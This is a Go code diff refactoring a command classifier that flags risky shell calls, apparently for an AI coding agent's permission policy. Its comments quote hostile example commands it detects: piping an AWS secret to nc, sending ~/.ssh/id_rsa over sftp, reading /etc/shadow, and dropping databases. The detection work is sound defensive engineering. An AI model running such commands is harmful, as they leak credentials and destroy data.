@@ -257,49 +257,13 @@ func (w *walker) simple(name string, words []word, assigns []string, c scope, d 
 		classify(&cmd, "git", alias)
 		cmd.Alts = append(cmd.Alts, "git "+strings.Join(alias, " "))
 	}
-	if c.stdin.kind == stdinText && roles&roleSQLShell != 0 && sqlDestroys(c.stdin.script) {
-		// "echo 'DROP TABLE t' | psql", "mysql <<< 'DROP DATABASE d'"
-		addClass(&cmd, ClassRisk{Class: ClassDestructive, Reason: name + " runs SQL from its input that drops or empties data: " + clip(c.stdin.script, 60), Token: name})
-	}
-	if c.stdin.kind == stdinText && cmd.Effects&EffectNetwork != 0 {
-		// "sftp host <<< 'put ~/.ssh/id_rsa'": a file transfer's script.
-		if f, ok := mentionsCredential(c.stdin.script); ok {
-			addClass(&cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " is told on its input to send the credential file " + f, Token: f})
-		} else if secretRef(c.stdin.script) {
-			// "nc host 80 <<< $AWS_SECRET_ACCESS_KEY"
-			addClass(&cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " sends a secret from the environment given on its input: " + clip(strings.TrimSpace(c.stdin.script), 60), Token: name})
-		}
-	}
-	if c.stdin.kind == stdinText && roles&(roleListReader|roleScriptReader) != 0 {
-		// "echo /etc/shadow | cpio -o": the names of the files to read
-		// come on the input; "sqlite3 <<EOF .import /etc/shadow x": a
-		// tool's script on its input reads the file.
-		if f, ok := mentionsCredential(c.stdin.script); ok {
-			addClass(&cmd, ClassRisk{Class: ClassCredential, Reason: name + " is told on its input to read the credential file " + f, Token: f})
-		}
-	}
-	if (c.stdin.kind == stdinFile || c.stdin.kind == stdinPipe) && roles&roleSQLShell != 0 && !sqlInline(cmd.Args) {
-		// "psql prod < drop.sql", "cat x.sql | mysql": the statements are
-		// not in the call, so nobody approving it sees what they do.
-		addClass(&cmd, ClassRisk{Class: ClassDestructive, Reason: name + " runs SQL from a file or pipe, statements nobody reviewed here", Token: name})
-	}
+	stdinClasses(&cmd, name, roles, c.stdin)
 	if srv, dir, ok := w.servesSecretDir(name, cmd.Args, d); ok && dir == "" {
 		cmd.ServesCwd = srv
 	} else if ok {
 		addClass(&cmd, ClassRisk{Class: ClassExfiltrate, Reason: srv + " serves its working directory " + dir + " to the network", Token: srv})
 	}
-	if code, ok := inlineCode(name, roles, args, c.stdin); ok {
-		addClass(&cmd, ClassRisk{Class: ClassInlineCode, Reason: inlineReason(name, code), Token: name})
-		cmd.Paths = codePaths(code)
-		if writes, deletes := codeWrites(code); writes || deletes {
-			// The program may write any path it names: the policy judges
-			// each as a possible write (.claude/settings.json asks).
-			for _, p := range cmd.Paths {
-				wd := word{text: p, static: !strings.ContainsAny(p, "$`"), glob: strings.ContainsAny(p, "*?["), tilde: strings.HasPrefix(p, "~")}
-				w.fileAs(wd, File{Write: true, Delete: deletes, Named: true}, cmd.Text, d)
-			}
-		}
-	}
+	w.inlineProgram(&cmd, name, roles, args, c.stdin, d)
 	if alt, ok := decodedAlt(cmd.Text); ok {
 		cmd.Alts = append(cmd.Alts, alt)
 	}
@@ -308,31 +272,8 @@ func (w *walker) simple(name string, words []word, assigns []string, c scope, d 
 		if alt, ok := gateAlt(name, norm); ok {
 			cmd.Alts = append(cmd.Alts, alt)
 		}
-		if v, ok := verbDestroys(norm); ok {
-			addClass(&cmd, ClassRisk{Class: ClassDestructive, Reason: name + " " + v + " deletes data in a service, which does not come back from the workspace", Token: v})
-		}
-	} else if script, rest, ok := runsAppScript(name, roles, norm); ok {
-		// "python manage.py flush", "php artisan db:wipe": the app's
-		// commands are an unknown command's.
-		if v, ok := verbDestroys(rest); ok {
-			addClass(&cmd, ClassRisk{Class: ClassDestructive, Reason: script + " " + v + " deletes data in a service, which does not come back from the workspace", Token: v})
-		}
-	} else if jar, rest, ok := runsJar(name, norm); ok {
-		// "java -jar jenkins-cli.jar delete-job x": the program's
-		// arguments are an unknown command's.
-		if v, ok := verbDestroys(rest); ok {
-			addClass(&cmd, ClassRisk{Class: ClassDestructive, Reason: jar + " " + v + " deletes data in a service, which does not come back from the workspace", Token: v})
-		}
 	}
-	if roles&roleFetcher != 0 {
-		if u, ok := httpDeletes(name, norm); ok {
-			reason, token := name+" sends an HTTP DELETE to "+clip(u, 60)+", deleting data in a service", "DELETE"
-			if deleteEndpoint(u) {
-				reason, token = name+" calls the delete endpoint "+clip(u, 60)+", deleting data in a service", u
-			}
-			addClass(&cmd, ClassRisk{Class: ClassDestructive, Reason: reason, Token: token})
-		}
-	}
+	serviceDeletes(&cmd, name, roles, known, norm)
 	idx := w.emit(cmd)
 	fstart := len(w.res.Files)
 	if spec != nil {
@@ -358,6 +299,90 @@ func (w *walker) simple(name string, words []word, assigns []string, c scope, d 
 		w.runnerProgram(name, args[at:], c, d)
 	}
 	w.markReadOnly(idx, name, norm, args, assigns, fstart)
+}
+
+// stdinClasses classes what a command is given on its standard input,
+// read as its roles say: SQL a database shell runs, a credential file a
+// transfer sends or a reader reads, a secret a network command sends,
+// statements in a file or pipe nobody approving the call sees.
+func stdinClasses(cmd *Command, name string, roles role, in stdin) {
+	if in.kind == stdinText && roles&roleSQLShell != 0 && sqlDestroys(in.script) {
+		// "echo 'DROP TABLE t' | psql", "mysql <<< 'DROP DATABASE d'"
+		addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " runs SQL from its input that drops or empties data: " + clip(in.script, 60), Token: name})
+	}
+	if in.kind == stdinText && cmd.Effects&EffectNetwork != 0 {
+		// "sftp host <<< 'put ~/.ssh/id_rsa'": a file transfer's script.
+		if f, ok := mentionsCredential(in.script); ok {
+			addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " is told on its input to send the credential file " + f, Token: f})
+		} else if secretRef(in.script) {
+			// "nc host 80 <<< $AWS_SECRET_ACCESS_KEY"
+			addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " sends a secret from the environment given on its input: " + clip(strings.TrimSpace(in.script), 60), Token: name})
+		}
+	}
+	if in.kind == stdinText && roles&(roleListReader|roleScriptReader) != 0 {
+		// "echo /etc/shadow | cpio -o": the names of the files to read
+		// come on the input; "sqlite3 <<EOF .import /etc/shadow x": a
+		// tool's script on its input reads the file.
+		if f, ok := mentionsCredential(in.script); ok {
+			addClass(cmd, ClassRisk{Class: ClassCredential, Reason: name + " is told on its input to read the credential file " + f, Token: f})
+		}
+	}
+	if (in.kind == stdinFile || in.kind == stdinPipe) && roles&roleSQLShell != 0 && !sqlInline(cmd.Args) {
+		// "psql prod < drop.sql", "cat x.sql | mysql": the statements are
+		// not in the call, so nobody approving it sees what they do.
+		addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " runs SQL from a file or pipe, statements nobody reviewed here", Token: name})
+	}
+}
+
+// inlineProgram classes the program an interpreter is given inline
+// (python -c, a heredoc into node) and records the paths it names as the
+// files it may write.
+func (w *walker) inlineProgram(cmd *Command, name string, roles role, args []word, in stdin, d *dirState) {
+	if code, ok := inlineCode(name, roles, args, in); ok {
+		addClass(cmd, ClassRisk{Class: ClassInlineCode, Reason: inlineReason(name, code), Token: name})
+		cmd.Paths = codePaths(code)
+		if writes, deletes := codeWrites(code); writes || deletes {
+			// The program may write any path it names: the policy judges
+			// each as a possible write (.claude/settings.json asks).
+			for _, p := range cmd.Paths {
+				wd := word{text: p, static: !strings.ContainsAny(p, "$`"), glob: strings.ContainsAny(p, "*?["), tilde: strings.HasPrefix(p, "~")}
+				w.fileAs(wd, File{Write: true, Delete: deletes, Named: true}, cmd.Text, d)
+			}
+		}
+	}
+}
+
+// serviceDeletes classes the calls that delete data in a service: an
+// unknown command's verb (verbDestroys), an app's management script's
+// (manage.py flush), a jar's, a downloader's HTTP DELETE. known is
+// whether the tables know the command (walker.known).
+func serviceDeletes(cmd *Command, name string, roles role, known bool, norm []string) {
+	if !known {
+		if v, ok := verbDestroys(norm); ok {
+			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " " + v + " deletes data in a service, which does not come back from the workspace", Token: v})
+		}
+	} else if script, rest, ok := runsAppScript(name, roles, norm); ok {
+		// "python manage.py flush", "php artisan db:wipe": the app's
+		// commands are an unknown command's.
+		if v, ok := verbDestroys(rest); ok {
+			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: script + " " + v + " deletes data in a service, which does not come back from the workspace", Token: v})
+		}
+	} else if jar, rest, ok := runsJar(name, norm); ok {
+		// "java -jar jenkins-cli.jar delete-job x": the program's
+		// arguments are an unknown command's.
+		if v, ok := verbDestroys(rest); ok {
+			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: jar + " " + v + " deletes data in a service, which does not come back from the workspace", Token: v})
+		}
+	}
+	if roles&roleFetcher != 0 {
+		if u, ok := httpDeletes(name, norm); ok {
+			reason, token := name+" sends an HTTP DELETE to "+clip(u, 60)+", deleting data in a service", "DELETE"
+			if deleteEndpoint(u) {
+				reason, token = name+" calls the delete endpoint "+clip(u, 60)+", deleting data in a service", u
+			}
+			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: reason, Token: token})
+		}
+	}
 }
 
 // findExec walks the commands find runs for each file it picks (-exec,
